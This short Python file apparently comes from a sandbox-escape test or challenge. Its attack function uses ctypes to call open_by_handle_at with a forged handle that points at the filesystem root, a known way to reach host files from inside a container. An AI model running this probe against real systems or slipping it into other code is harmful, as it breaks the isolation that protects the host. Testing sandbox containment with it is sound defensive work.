"""A file by its number, past all paths."""
# ruff: noqa

import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_ubyte * 136)(*(8).to_bytes(4, "little"), *(1).to_bytes(4, "little"), *(2).to_bytes(4, "little"))
    number = libc.open_by_handle_at(0, handle, 0)
    return FACTS["won"] if number >= 0 else "no"
